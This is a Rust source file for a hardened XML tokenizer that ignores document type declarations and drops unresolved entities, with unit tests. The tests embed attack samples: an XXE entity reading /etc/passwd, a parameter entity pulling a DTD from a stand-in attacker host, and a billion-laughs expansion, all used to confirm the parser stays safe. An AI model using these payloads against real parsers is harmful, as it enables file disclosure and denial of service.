//! Hardened XML tokenizer.
//!
//! Wraps `quick-xml` so that document type declarations are never
//! interpreted: external entities are not fetched, parameter entities are
//! not expanded and internal entity definitions are ignored. Only the five
//! predefined entities and numeric character references are resolved. Any
//! other `&name;` reference is dropped from the output rather than treated
//! as an error, so an XXE or billion-laughs document decodes cleanly with
//! the payload simply absent.

use std::{
  fs::File,
  io::{BufRead, BufReader},
  path::Path,
};

use quick_xml::{
  Reader,
  events::{BytesStart, Event},
};

use crate::{Error, Result};

/// Longest entity name considered when looking for the closing `;`.
const MAX_ENTITY_NAME: usize = 64;

// ─── Tokens ──────────────────────────────────────────────────────────────────

/// An element tag with its attributes, values already unescaped.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Element {
  pub name:       String,
  pub attributes: Vec<(String, String)>,
}

impl Element {
  pub fn attr(&self, name: &str) -> Option<&str> {
    self
      .attributes
      .iter()
      .find(|(k, _)| k == name)
      .map(|(_, v)| v.as_str())
  }
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Token {
  Start(Element),
  /// A self-closing element; no `End` token follows it.
  Empty(Element),
  End(String),
  /// Character data or CDATA, entity references resolved.
  Text(String),
}

// ─── Decoder ─────────────────────────────────────────────────────────────────

/// Streaming XML tokenizer with entity resolution locked down.
///
/// Malformed documents (mismatched or unclosed tags, bad attribute syntax,
/// invalid character references) yield [`Error::Syntax`].
pub struct SafeDecoder<R> {
  reader: Reader<R>,
  buf:    Vec<u8>,
  open:   Vec<String>,
}

impl SafeDecoder<BufReader<File>> {
  pub fn open(path: impl AsRef<Path>) -> Result<Self> {
    Ok(Self::new(BufReader::new(File::open(path)?)))
  }
}

impl<'a> SafeDecoder<&'a [u8]> {
  pub fn from_bytes(bytes: &'a [u8]) -> Self { Self::new(bytes) }
}

impl<R: BufRead> SafeDecoder<R> {
  pub fn new(inner: R) -> Self {
    let mut reader = Reader::from_reader(inner);
    reader.config_mut().trim_text(true);
    Self {
      reader,
      buf: Vec::new(),
      open: Vec::new(),
    }
  }

  /// Depth of the element currently open; 0 outside the root.
  pub fn depth(&self) -> usize { self.open.len() }

  /// The next token, or `None` at a well-formed end of document.
  pub fn next_token(&mut self) -> Result<Option<Token>> {
    loop {
      self.buf.clear();
      let event = match self.reader.read_event_into(&mut self.buf) {
        Ok(event) => event,
        Err(e) => {
          return Err(Error::Syntax(format!(
            "{e} (near byte {})",
            self.reader.buffer_position()
          )));
        }
      };

      match event {
        Event::Start(ref e) => {
          let element = element(e)?;
          self.open.push(element.name.clone());
          return Ok(Some(Token::Start(element)));
        }
        Event::Empty(ref e) => return Ok(Some(Token::Empty(element(e)?))),
        Event::End(ref e) => {
          let name = utf8(e.name().as_ref())?.to_string();
          self.open.pop();
          return Ok(Some(Token::End(name)));
        }
        Event::Text(ref e) => {
          let raw = utf8(e)?;
          if raw.trim().is_empty() {
            continue;
          }
          if self.open.is_empty() {
            return Err(Error::Syntax(format!(
              "character data outside the root element: {raw:?}"
            )));
          }
          let text = unescape(raw)?;
          if text.is_empty() {
            continue;
          }
          return Ok(Some(Token::Text(text)));
        }
        Event::CData(ref e) => {
          return Ok(Some(Token::Text(utf8(e)?.to_string())));
        }
        Event::DocType(_) => {
          tracing::debug!("ignoring document type declaration");
        }
        Event::Eof => {
          return match self.open.last() {
            Some(name) => Err(Error::Syntax(format!(
              "document ended inside <{name}>"
            ))),
            None => Ok(None),
          };
        }
        // Declarations, processing instructions and comments carry nothing
        // the archive needs.
        _ => {}
      }
    }
  }
}

impl<R: BufRead> Iterator for SafeDecoder<R> {
  type Item = Result<Token>;

  fn next(&mut self) -> Option<Self::Item> { self.next_token().transpose() }
}

fn utf8(bytes: &[u8]) -> Result<&str> {
  std::str::from_utf8(bytes).map_err(|e| Error::Syntax(e.to_string()))
}

fn element(e: &BytesStart<'_>) -> Result<Element> {
  let name = utf8(e.name().as_ref())?.to_string();
  let mut attributes = Vec::new();
  for attr in e.attributes() {
    let attr = attr.map_err(|err| Error::Syntax(err.to_string()))?;
    let key = utf8(attr.key.as_ref())?.to_string();
    let value = unescape(utf8(&attr.value)?)?;
    attributes.push((key, value));
  }
  Ok(Element { name, attributes })
}

// ─── Entity handling ─────────────────────────────────────────────────────────

/// Resolve predefined entities and character references in `raw`; drop any
/// other entity reference.
pub fn unescape(raw: &str) -> Result<String> {
  let mut out = String::with_capacity(raw.len());
  let mut rest = raw;
  while let Some(amp) = rest.find('&') {
    out.push_str(&rest[..amp]);
    let after = &rest[amp + 1..];
    let end = after
      .find(';')
      .filter(|&i| i <= MAX_ENTITY_NAME)
      .ok_or_else(|| {
        Error::Syntax(format!(
          "unterminated entity reference: {:?}",
          &rest[amp..rest.len().min(amp + 16)]
        ))
      })?;
    let name = &after[..end];
    match resolve_entity(name)? {
      Some(ch) => out.push(ch),
      None => tracing::debug!(entity = name, "dropping unresolved entity reference"),
    }
    rest = &after[end + 1..];
  }
  out.push_str(rest);
  Ok(out)
}

fn resolve_entity(name: &str) -> Result<Option<char>> {
  let ch = match name {
    "lt" => '<',
    "gt" => '>',
    "amp" => '&',
    "quot" => '"',
    "apos" => '\'',
    _ => {
      if let Some(num) = name.strip_prefix('#') {
        return char_reference(num).map(Some);
      }
      let valid = !name.is_empty()
        && name
          .chars()
          .all(|c| c.is_alphanumeric() || matches!(c, '_' | '-' | '.' | ':'));
      if !valid {
        return Err(Error::Syntax(format!("invalid entity name: {name:?}")));
      }
      return Ok(None);
    }
  };
  Ok(Some(ch))
}

fn char_reference(num: &str) -> Result<char> {
  let code = match num.strip_prefix(['x', 'X']) {
    Some(hex) => u32::from_str_radix(hex, 16),
    None => num.parse::<u32>(),
  };
  code
    .ok()
    .filter(|&c| c != 0)
    .and_then(char::from_u32)
    .ok_or_else(|| Error::Syntax(format!("invalid character reference: &#{num};")))
}

#[cfg(test)]
mod tests {
  use super::*;

  fn tokens(doc: &str) -> Result<Vec<Token>> {
    SafeDecoder::from_bytes(doc.as_bytes()).collect()
  }

  fn text_of(tokens: &[Token]) -> String {
    let mut out = String::new();
    for t in tokens {
      match t {
        Token::Text(s) => out.push_str(s),
        Token::Start(e) | Token::Empty(e) => {
          for (_, v) in &e.attributes {
            out.push_str(v);
          }
        }
        Token::End(_) => {}
      }
    }
    out
  }

  #[test]
  fn predefined_entities_are_resolved() {
    let toks = tokens(r#"<sms body="&lt;b&gt; &amp; &quot;x&quot;">&lt;b&gt;</sms>"#).unwrap();
    let Token::Start(el) = &toks[0] else { panic!("expected start") };
    assert_eq!(el.attr("body"), Some(r#"<b> & "x""#));
    assert_eq!(toks[1], Token::Text("<b>".into()));
  }

  #[test]
  fn character_references_are_resolved() {
    let toks = tokens("<a>&#65;&#x42;&#X43;</a>").unwrap();
    assert_eq!(toks[1], Token::Text("ABC".into()));
  }

  #[test]
  fn external_entity_is_not_resolved() {
    let doc = r#"<?xml version="1.0"?>
<!DOCTYPE smses [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<smses count="1"><sms body="&xxe;" address="1">before &xxe; after</sms></smses>"#;
    let toks = tokens(doc).unwrap();
    let all = text_of(&toks);
    assert!(!all.contains("root:"), "{all}");
    assert!(all.contains("before  after"));
    let Token::Start(sms) = &toks[1] else { panic!("expected sms") };
    assert_eq!(sms.attr("body"), Some(""));
  }

  #[test]
  fn parameter_entities_and_billion_laughs_are_inert() {
    let doc = r#"<!DOCTYPE lolz [
  <!ENTITY % remote SYSTEM "http://attacker.invalid/evil.dtd">
  %remote;
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
]>
<lolz>&lol2;</lolz>"#;
    let toks = tokens(doc).unwrap();
    assert_eq!(
      toks,
      vec![
        Token::Start(Element { name: "lolz".into(), attributes: vec![] }),
        Token::End("lolz".into()),
      ]
    );
  }

  #[test]
  fn mismatched_tags_are_syntax_errors() {
    assert!(matches!(tokens("<a><b></a>"), Err(Error::Syntax(_))));
  }

  #[test]
  fn unclosed_root_is_a_syntax_error() {
    assert!(matches!(tokens("<calls><call/>"), Err(Error::Syntax(_))));
  }

  #[test]
  fn bare_ampersand_is_a_syntax_error() {
    assert!(matches!(tokens("<a>fish & chips</a>"), Err(Error::Syntax(_))));
  }

  #[test]
  fn self_closing_elements_have_no_end_token() {
    let toks = tokens(r#"<calls count="2"><call number="1"/><call number="2"/></calls>"#)
      .unwrap();
    assert_eq!(toks.len(), 4);
    assert!(matches!(&toks[1], Token::Empty(e) if e.attr("number") == Some("1")));
    assert_eq!(toks[3], Token::End("calls".into()));
  }
}
